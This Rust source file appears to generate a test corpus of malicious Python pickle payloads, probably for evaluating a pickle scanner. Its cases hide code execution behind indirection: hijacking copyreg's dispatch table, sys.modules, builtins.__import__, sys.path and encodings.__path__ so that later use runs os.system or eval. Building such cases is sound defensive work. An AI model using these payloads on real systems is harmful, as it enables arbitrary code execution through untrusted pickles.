//! Changes whose harm comes when something else is used.

use super::collector::Collector;
use super::made::{attribute, instance};
use super::objects::{append, os, set};
use crate::args;
use crate::asm::Asm;
use crate::value::{Value, build, call, g, steps, tuple};

pub(super) fn collect(all: &mut Collector<'_>) {
    all.add(
        "dispatch-table-then-copy",
        "copy.copy asks the dispatch table",
        |k| {
            let made = call(
                g("builtins", "type"),
                args![
                    "Made",
                    tuple(vec![g("builtins", "str")]),
                    Value::Dict(vec![])
                ],
            );
            let made = crate::value::keep(1, made);
            let table = set(&g("copyreg", "dispatch_table"), &made, &g("os", "system"));
            let object = call(crate::value::kept(1), args![&k.sh]);
            steps(vec![table, call(g("copy", "copy"), vec![object])])
        },
    );
    all.add_in(
        2,
        "module-getattr",
        "GLOBAL asks an object in sys.modules for an attribute",
        |k| {
            let evil = instance(attribute("__getattr__", g("os", "system")));
            let put = set(&g("sys", "modules"), &"hostile_module".into(), &evil);
            let asked = Asm::new().global("hostile_module", &k.sh);
            steps(vec![put, asked.into()])
        },
    );
    all.add(
        "module-alias",
        "GLOBAL finds os under a name that looks harmless",
        |k| {
            let put = set(&g("sys", "modules"), &"hostile_data".into(), &os());
            let asked = Asm::new().global("hostile_data", "system");
            steps(vec![put, call(asked.into(), args![&k.sh])])
        },
    );
    all.add(
        "module-function",
        "GLOBAL finds eval as a function of a harmless module",
        |k| {
            let module = call(g("builtins", "__import__"), args!["fractions"]);
            let put = build(module, attribute("Fraction", g("builtins", "eval")));
            let asked = Asm::new().global("fractions", "Fraction");
            steps(vec![put, call(asked.into(), args![&k.py])])
        },
    );
    all.add("builtins-import", "the next import calls os.system", |_| {
        let put = set(
            &g("builtins", "__dict__"),
            &"__import__".into(),
            &g("os", "system"),
        );
        steps(vec![put, Value::None])
    })
    .state("__import__ is sys.modules['os'].system");
    all.add(
        "path-then-import",
        "GLOBAL imports from a folder that APPEND has added",
        |k| {
            let put = append(&g("sys", "path"), &(&k.folder).into());
            steps(vec![put, Asm::new().global("hostile_evil", "a").into()])
        },
    )
    .file("hostile_evil.py", |k| {
        format!("a = {}\n", k.py).into_bytes()
    });
    all.add(
        "encodings-then-encode",
        "a codec is imported from a folder that APPEND has added",
        |k| {
            let put = append(&g("encodings", "__path__"), &(&k.folder).into());
            steps(vec![
                put,
                call(g("_codecs", "encode"), args!["a", "hostile_evil"]),
            ])
        },
    )
    .file("hostile_evil.py", |k| format!("{}\n", k.py).into_bytes());
}
